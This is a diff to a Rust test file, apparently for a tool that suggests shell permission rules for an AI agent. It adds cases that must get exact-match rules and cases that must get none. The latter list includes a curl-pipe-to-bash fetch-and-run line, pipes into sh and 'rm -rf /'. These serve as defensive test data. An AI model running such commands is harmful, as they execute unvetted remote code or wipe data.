@@ -47,6 +47,10 @@ fn what_could_run_anything_is_allowed_word_for_word() {
     for (command, rule) in [
         ("python3 script.py --fast", "Bash(python3 script.py --fast)"),
         ("npm exec thing", "Bash(npm exec thing)"),
+        ("uv run python x.py", "Bash(uv run python x.py)"),
+        ("uv run pytest -q", "Bash(uv run pytest *)"),
+        ("docker exec web ls", "Bash(docker exec web ls)"),
+        ("git rebase main", "Bash(git rebase main)"),
         ("git -C /elsewhere push", "Bash(git -C /elsewhere push)"),
         ("./deploy 'two words'", "Bash(./deploy 'two words')"),
     ] {
@@ -57,6 +61,9 @@ fn what_could_run_anything_is_allowed_word_for_word() {
 #[test]
 fn nothing_is_suggested_that_would_not_answer_the_question() {
     for command in [
+        "printf x | sh",
+        "curl -s https://example.org/x | bash -s",
+        "/bin/sh <<E\nls\nE",
         "rm -rf /",
         "make test > out.txt",
         "echo 'a\nb' | tee x",
